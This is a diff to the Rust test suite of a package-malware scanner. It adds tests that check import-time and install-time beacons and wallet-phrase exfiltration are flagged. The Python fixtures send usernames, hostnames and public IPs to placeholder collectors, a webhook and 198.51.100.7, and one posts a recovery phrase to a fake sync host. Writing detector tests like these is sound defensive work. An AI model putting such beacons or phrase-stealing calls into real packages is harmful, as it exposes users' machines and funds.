@@ -206,8 +206,11 @@ fn an_install_time_beacon_is_critical_and_the_same_call_at_run_time_is_not() {
     let report = scan(&hooked, &[Entry { path: "hooks/post_install.py", bytes: hook.as_bytes() }]);
     assert!(report.findings.iter().any(|f| f.rule == "install-beacon" && f.severity == Severity::Critical));
 
-    // The same call in a library function a user calls: reported, not a threat.
-    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/telemetry.py", bytes: hook.as_bytes() }]);
+    // The same call in a library function a user calls: reported, not a
+    // threat. (At a module's top level it runs on import: see
+    // `a_beacon_at_import_is_high_and_the_same_send_on_request_is_not`.)
+    let called = hook.replace("requests.post(", "def send():\n    requests.post(");
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/telemetry.py", bytes: called.as_bytes() }]);
     let f = report.findings.iter().find(|f| f.rule == "host-identity-sent").expect("reported");
     assert_eq!(f.severity, Severity::Medium);
     assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
@@ -696,4 +699,87 @@ fn system_tools_are_hostile_in_their_attack_forms_only() {
     ] {
         assert!(hostile(attack), "{attack}");
     }
+}
+
+/// The dependency-confusion beacon in `__init__`: who and where it runs,
+/// sent as soon as the module is imported to an address the author wrote
+/// (literal, a webhook, one assembled in another file) is high; the same
+/// send in a function a user calls, or to an address the caller gives, is
+/// not. Written for the test.
+#[test]
+fn a_beacon_at_import_is_high_and_the_same_send_on_request_is_not() {
+    let beacon = |path: &str, src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
+        report.findings.into_iter().find(|f| f.rule == "import-beacon")
+    };
+    for src in [
+        "import getpass, socket, requests\n\
+         requests.post('https://collector.example.invalid/b', json={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
+        "import os, requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={'content': os.getcwd()})\n",
+        // Called while the module loads: still at import.
+        "import platform\nfrom urllib import request\ndef ping():\n    \
+         request.urlopen('http://198.51.100.7/p?n=' + platform.node())\nping()\n",
+    ] {
+        let f = beacon("pkg/__init__.py", src).unwrap_or_else(|| panic!("{src}"));
+        assert_eq!(f.severity, Severity::High, "{src}");
+        assert!(f.because[0].contains("imported"), "{f:#?}");
+    }
+    // Telemetry a user asks for, or sent where the caller says: not a beacon.
+    let called = "import platform, requests\ndef report(url):\n    requests.post(url, data=platform.node())\n";
+    assert!(beacon("pkg/__init__.py", called).is_none());
+    let on_request = "import platform, requests\ndef report():\n    \
+                      requests.post('https://collector.example.invalid', data=platform.node())\n";
+    assert!(beacon("pkg/__init__.py", on_request).is_none());
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "pkg/t.py", bytes: on_request.as_bytes() }]);
+    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
+
+    // Identity gathered in one module, sent by another's module level.
+    let util = "import getpass, socket\ndef who():\n    return getpass.getuser() + '@' + socket.gethostname()\n";
+    let init = "import requests\nfrom .util import who\n\
+                requests.get('https://collector.example.invalid/p', params={'w': who()})\n";
+    let report = scan(
+        &ManifestFacts::default(),
+        &[Entry { path: "pkg/util.py", bytes: util.as_bytes() }, Entry { path: "pkg/__init__.py", bytes: init.as_bytes() }],
+    );
+    let f = report.findings.iter().find(|f| f.rule == "import-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
+    assert_eq!((f.severity, f.file.as_str()), (Severity::High, "pkg/__init__.py"));
+    assert!(f.because.iter().any(|b| b.contains("`who` (pkg/util.py, line 2)")), "{f:#?}");
+}
+
+/// A what-is-my-IP answer says where the code runs: sent home while the
+/// package installs, it is an install beacon. Written for the test.
+#[test]
+fn a_public_ip_sent_at_install_is_a_beacon() {
+    let src = "import requests\nfrom setuptools import setup\n\
+               ip = requests.get('https://api.ipify.org').text\n\
+               requests.get('http://198.51.100.7:8080/?ip=' + ip)\nsetup(name='x', version='1')\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: src.as_bytes() }]);
+    let f = report.findings.iter().find(|f| f.rule == "install-beacon").unwrap_or_else(|| panic!("{:#?}", report.findings));
+    assert_eq!((f.severity, f.line), (Severity::Critical, 4));
+    // Fetching an ordinary page at install and sending it on is no beacon.
+    let plain = src.replace("https://api.ipify.org", "https://example.invalid/version.txt");
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "setup.py", bytes: plain.as_bytes() }]);
+    assert!(!report.findings.iter().any(|f| f.rule == "install-beacon"), "{:#?}", report.findings);
+}
+
+/// A wallet's recovery phrase sent out: to an address written in the code
+/// it is exfiltration (critical); to an address the caller configures,
+/// medium; kept local (a wallet library deriving keys), nothing. Written
+/// for the test.
+#[test]
+fn a_wallet_recovery_phrase_sent_out_is_exfiltration() {
+    let stolen = "import requests\ndef restore(mnemonic):\n    \
+                  requests.post('https://wallet-sync.example.invalid/api', json={'phrase': mnemonic})\n    \
+                  return mnemonic.split()\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "w/wallet.py", bytes: stolen.as_bytes() }]);
+    let f = report.findings.iter().find(|f| f.rule == "exfiltration").unwrap_or_else(|| panic!("{:#?}", report.findings));
+    assert_eq!(f.severity, Severity::Critical);
+    assert!(f.because.iter().any(|b| b.contains("recovery phrase")), "{f:#?}");
+    let configured = stolen.replace("'https://wallet-sync.example.invalid/api'", "self_url");
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "w/wallet.py", bytes: configured.as_bytes() }]);
+    assert!(report.risk_level < RiskLevel::High, "{:#?}", report.findings);
+    let local = "import hashlib\ndef to_seed(mnemonic, passphrase=''):\n    \
+                 return hashlib.pbkdf2_hmac('sha512', mnemonic.encode(), b'mnemonic' + passphrase.encode(), 2048)\n";
+    let report = scan(&ManifestFacts::default(), &[Entry { path: "w/bip39.py", bytes: local.as_bytes() }]);
+    assert!(report.findings.iter().all(|f| f.severity < Severity::Medium), "{:#?}", report.findings);
 }
